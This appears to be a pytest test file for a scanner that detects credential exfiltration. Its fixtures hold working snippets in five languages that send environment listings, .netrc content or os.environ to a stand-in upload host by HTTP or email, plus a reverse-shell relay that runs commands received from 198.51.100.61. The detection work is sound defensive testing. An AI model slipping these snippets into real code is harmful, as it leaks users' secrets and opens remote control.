"""A command a program runs and reads the output of carries what the command prints: the whole
environment (``printenv``, ``cmd /c set``, a bare `` `env` ``) or a secret store's content
(``cat ~/.netrc``), in every language that starts programs, and through an email message filled
before it is mailed."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_python_output_of_an_environment_listing_sent(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/doctor.py": "import subprocess, requests\n"
            "listing = subprocess.check_output(['printenv'], text=True)\n"
            "requests.put('https://diag-upload.example.net/run', data=listing)\n",
            "scripts/netrc.py": "import os, urllib.request\n"
            "saved = os.popen('head -n 40 ~/.netrc').read().encode()\n"
            "urllib.request.urlopen('https://diag-upload.example.net/n', data=saved)\n",
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "scripts/doctor.py", 3) in errors
    assert ("CREDENTIAL_EXFILTRATION", "scripts/netrc.py", 3) in errors


def test_javascript_and_powershell_output_sent(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/doctor.js": "const cp = require('child_process');\n"
            "const all = cp.execSync('env -0').toString();\n"
            "fetch('https://diag-upload.example.net/j', { method: 'PUT', body: all });\n",
            "scripts/doctor.ps1": '$all = cmd.exe /c "set"\n'
            "Invoke-WebRequest -Uri https://diag-upload.example.net/p -Method Put -Body ($all | Out-String)\n",
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "scripts/doctor.js", 3) in errors
    assert ("CREDENTIAL_EXFILTRATION", "scripts/doctor.ps1", 2) in errors


def test_go_and_ruby_output_sent(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "tools/doctor.go": 'package main\n\nimport (\n\t"bytes"\n\t"net/http"\n\t"os/exec"\n)\n\n'
            'func main() {\n\tlisting, _ := exec.Command("printenv").Output()\n'
            '\thttp.Post("https://diag-upload.example.net/g", "text/plain", bytes.NewReader(listing))\n}\n',
            "tools/doctor.rb": "require 'net/http'\nlisting = %x(printenv)\n"
            "Net::HTTP.post(URI('https://diag-upload.example.net/r'), listing)\n",
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "tools/doctor.go", 11) in errors
    assert ("CREDENTIAL_EXFILTRATION", "tools/doctor.rb", 3) in errors


def test_environment_put_into_an_email_and_mailed(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/mail.py": "import os, smtplib\nfrom email.message import EmailMessage\n"
            "note = EmailMessage()\nnote['Subject'] = 'nightly'\n"
            "note.set_content(repr(dict(os.environ)))\n"
            "with smtplib.SMTP_SSL('mx.diag-upload.example.net') as box:\n    box.send_message(note)\n"
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "scripts/mail.py", 7) in errors


def test_asyncio_connection_lines_run_as_commands(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/relay.py": "import asyncio, os\n"
            "async def serve():\n"
            "    inbound, outbound = await asyncio.open_connection('198.51.100.61', 7443)\n"
            "    while order := await inbound.readline():\n"
            "        outbound.write(os.popen(order.decode()).read().encode())\n"
            "asyncio.run(serve())\n"
        },
    )
    assert ("DOWNLOAD_AND_RUN", "scripts/relay.py", 5) in errors  # received at line 4, run at line 5


def test_commands_that_print_no_secret_stay_quiet(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/status.py": "import subprocess, requests\n"
            "state = subprocess.check_output(['git', 'status', '--short'], text=True)\n"
            "built = subprocess.check_output(['env', 'CI=1', 'make', 'report'], text=True)\n"
            "readme = subprocess.check_output(['cat', 'README.md'], text=True)\n"
            "requests.post('https://status.example.org/ping', data=state + built + readme)\n",
            "scripts/status.rb": "require 'net/http'\nstamp = `date -u`\n"
            "Net::HTTP.post(URI('https://status.example.org/r'), stamp)\n",
            "scripts/status.ps1": "$v = cmd /c ver\n"
            "Invoke-RestMethod -Uri https://status.example.org/p -Method Post -Body $v\n",
            "scripts/local.py": "import subprocess\nprint(subprocess.check_output(['printenv'], text=True))\n",
        },
    )
    assert not errors
